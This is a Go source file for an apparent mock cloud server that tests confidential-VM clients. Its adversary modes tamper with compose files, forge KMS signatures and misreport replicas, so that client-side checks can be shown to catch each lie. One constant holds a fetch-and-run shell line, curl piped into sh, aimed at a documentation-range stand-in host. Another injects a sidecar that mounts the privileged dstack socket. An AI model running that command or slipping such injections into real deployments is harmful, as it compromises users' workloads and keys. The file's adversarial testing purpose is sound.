package cloud

import (
	"context"
	"encoding/hex"
	"fmt"
	"regexp"
	"strings"

	"github.com/ethereum/go-ethereum/crypto"
)

// Adversary modes (Config.Adversary). Each makes the cloud lie about exactly
// one thing, consistently (every answer agrees with the lie), so that a
// client's checks can be seen to catch it. The empty mode is honest.
const (
	// AdversaryCompose adds a service that mounts the dstack socket to the
	// stored app-compose's docker_compose_file (on provision and on
	// updates); the compose hash answered is the tampered document's.
	AdversaryCompose = "compose"
	// AdversaryPreLaunch puts AdversaryPreLaunchScript into the app-compose:
	// added when the request has no pre_launch_script, replacing the user's
	// when it has one.
	AdversaryPreLaunch = "prelaunch"
	// AdversaryFlipPublicLogs stores public_logs as the opposite of what
	// was requested (requested or defaulted).
	AdversaryFlipPublicLogs = "flip-public-logs"
	// AdversaryForgedKey signs the app env keys of GET /kms/{kms}/pubkey/{app}
	// (legacy and v1 signatures) with a random key that is not the KMS root.
	AdversaryForgedKey = "forged-key"
	// AdversaryRogueKMS names a second DstackKms (Config.RogueKMSContract,
	// with its own root Config.RogueRootKey) in every kms_info, signs app
	// keys with its root, and boots CVMs against it.
	AdversaryRogueKMS = "rogue-kms"
	// AdversaryReplicaCompose makes a replica (POST /cvms/{id}/replicas)
	// run the source's compose with the sidecar added; its 465 names that
	// document's compose hash.
	AdversaryReplicaCompose = "replica-compose"
	// AdversaryReplicaApp names another app id in a replica's 465.
	AdversaryReplicaApp = "replica-app"
	// AdversaryReplicaDevice names, in a replica's 465, a device id that is
	// no node's (a host the operator controls) instead of the chosen node's.
	AdversaryReplicaDevice = "replica-device"
)

// AdversaryModes lists the valid Config.Adversary values (besides "").
var AdversaryModes = []string{AdversaryCompose, AdversaryPreLaunch, AdversaryFlipPublicLogs, AdversaryForgedKey, AdversaryRogueKMS,
	AdversaryReplicaCompose, AdversaryReplicaApp, AdversaryReplicaDevice}

// AdversaryPreLaunchScript is the script the prelaunch mode slips in. The
// address is from a documentation range (RFC 5737): nothing connects to it.
const AdversaryPreLaunchScript = "#!/bin/bash\ncurl -s http://198.51.100.7/x | sh\n"

// AdversarySidecar is the service the compose mode adds, at the indentation
// of the compose's own services ("  " here).
const AdversarySidecar = "  sidecar:\n    image: alpine\n    volumes:\n      - /var/run/dstack.sock:/var/run/dstack.sock\n"

// CheckAdversary reports an unknown adversary mode, listing the modes.
func CheckAdversary(mode string) error {
	if mode == "" {
		return nil
	}
	for _, m := range AdversaryModes {
		if m == mode {
			return nil
		}
	}
	return fmt.Errorf("cloud: unknown adversary mode %q; modes: %s", mode, strings.Join(AdversaryModes, ", "))
}

// becomeAdversary sets up the KMS-side lies at start (forged-key: a
// forger's signing key; rogue-kms: the rogue DstackKms, checked to hold the
// rogue root, becomes the KMS the cloud serves) and logs the mode.
func (s *Server) becomeAdversary(ctx context.Context) error {
	var lie string
	switch s.cfg.Adversary {
	case "":
		return nil
	case AdversaryCompose:
		lie = "every app-compose gets a service mounting /var/run/dstack.sock"
	case AdversaryPreLaunch:
		lie = "every app-compose gets the adversary's pre_launch_script"
	case AdversaryFlipPublicLogs:
		lie = "every app-compose gets public_logs opposite to the request"
	case AdversaryForgedKey:
		forger, err := crypto.GenerateKey()
		if err != nil {
			return fmt.Errorf("cloud: forger key: %w", err)
		}
		s.keys = &keyring{root: s.keys.root, signer: forger, secret: s.keys.secret}
		lie = fmt.Sprintf("app env keys are signed by %x, not by the KMS root %x",
			crypto.CompressPubkey(&forger.PublicKey), s.keys.rootPublicKey())
	case AdversaryReplicaCompose:
		lie = "replicas run the source's compose with a service mounting /var/run/dstack.sock"
	case AdversaryReplicaApp:
		lie = "replica 465 answers name another app id"
	case AdversaryReplicaDevice:
		lie = "replica 465 answers name a device that is no node's"
	case AdversaryRogueKMS:
		root := s.cfg.RogueRootKey
		if err := s.verifyRoot(ctx, s.cfg.RogueKMSContract, crypto.CompressPubkey(&root.PublicKey)); err != nil {
			return fmt.Errorf("cloud: rogue KMS: %w", err)
		}
		s.keys = &keyring{root: root, signer: root, secret: secretFrom(root)}
		s.kms = s.cfg.RogueKMSContract
		*s.onKMS.Contract = s.kms
		lie = fmt.Sprintf("kms_info names the rogue DstackKms %s (root %x) instead of %s",
			s.kms.Hex(), s.keys.rootPublicKey(), s.cfg.KMSContract.Hex())
	}
	s.log.Warn("adversary", "mode", s.cfg.Adversary, "on", "start", "lie", lie)
	return nil
}

// logKMSLie logs a KMS-side lie told in an answer (forged-key, rogue-kms).
func (s *Server) logKMSLie(on string, args ...any) {
	var lie string
	switch s.cfg.Adversary {
	case AdversaryForgedKey:
		if on != "pubkey" {
			return
		}
		lie = "app env key signed by a key that is not the KMS root"
	case AdversaryRogueKMS:
		lie = "names the rogue DstackKms " + s.kms.Hex() + " (root " + hex.EncodeToString(s.keys.rootPublicKey()) + ")"
	default:
		return
	}
	s.log.Warn("adversary", append([]any{"mode", s.cfg.Adversary, "on", on, "lie", lie}, args...)...)
}

// lieAboutCompose applies the compose-side adversary modes to the user's
// input; lie describes the change ("" when there is none).
func (s *Server) lieAboutCompose(in composeInput) (composeInput, string) {
	switch s.cfg.Adversary {
	case AdversaryCompose:
		in.dockerCompose = addSidecar(in.dockerCompose)
		return in, "added service \"sidecar\" mounting /var/run/dstack.sock to docker_compose_file"
	case AdversaryPreLaunch:
		lie := "added a pre_launch_script the request did not send"
		if in.preLaunch != nil {
			lie = "replaced the request's pre_launch_script"
		}
		script := AdversaryPreLaunchScript
		in.preLaunch = &script
		return in, lie
	case AdversaryFlipPublicLogs:
		flipped := !boolOr(in.publicLogs, true)
		in.publicLogs = &flipped
		return in, fmt.Sprintf("public_logs stored as %v, the opposite of the request", flipped)
	}
	return in, ""
}

// topServicesRE finds a block-style top-level "services:" key (a trailing
// comment allowed).
var topServicesRE = regexp.MustCompile(`(?m)^services:[ \t]*(#[^\r\n]*)?\r?$`)

// addSidecar inserts the sidecar service as the first entry of the
// compose's top-level services mapping, at the indentation of the existing
// entries (AdversarySidecar with "  "), so the result is still valid YAML. A
// compose without a block-style top-level services key gets a services
// block appended.
func addSidecar(compose string) string {
	loc := topServicesRE.FindStringIndex(compose)
	if loc == nil {
		if compose != "" && !strings.HasSuffix(compose, "\n") {
			compose += "\n"
		}
		return compose + "services:\n" + sidecarAt("  ")
	}
	head, rest := compose[:loc[1]]+"\n", strings.TrimPrefix(compose[loc[1]:], "\n")
	indent := "  "
	for _, line := range strings.SplitAfter(rest, "\n") {
		trimmed := strings.TrimLeft(line, " ")
		if strings.TrimSpace(trimmed) == "" || strings.HasPrefix(trimmed, "#") {
			continue
		}
		if n := len(line) - len(trimmed); n > 0 {
			indent = line[:n]
		}
		break
	}
	return head + sidecarAt(indent) + rest
}

// sidecarAt renders the sidecar service with entries indented by indent.
func sidecarAt(indent string) string {
	return indent + "sidecar:\n" +
		strings.Repeat(indent, 2) + "image: alpine\n" +
		strings.Repeat(indent, 2) + "volumes:\n" +
		strings.Repeat(indent, 3) + "- /var/run/dstack.sock:/var/run/dstack.sock\n"
}

// SetAdversary turns a running, honest cloud into one that lies from now
// on (or back to honest with ""), so that a test can deploy honestly and
// meet the liar on the update. rogue-kms needs its contract at start and
// cannot be switched to. Call it between requests.
func (s *Server) SetAdversary(mode string) error {
	if err := CheckAdversary(mode); err != nil {
		return err
	}
	if mode == AdversaryRogueKMS || s.cfg.Adversary == AdversaryRogueKMS {
		return fmt.Errorf("cloud: %s is chosen when the cloud starts", AdversaryRogueKMS)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.cfg.Adversary == AdversaryForgedKey {
		s.keys = &keyring{root: s.keys.root, signer: s.keys.root, secret: s.keys.secret}
	}
	s.cfg.Adversary = mode
	return s.becomeAdversary(s.ctx)
}
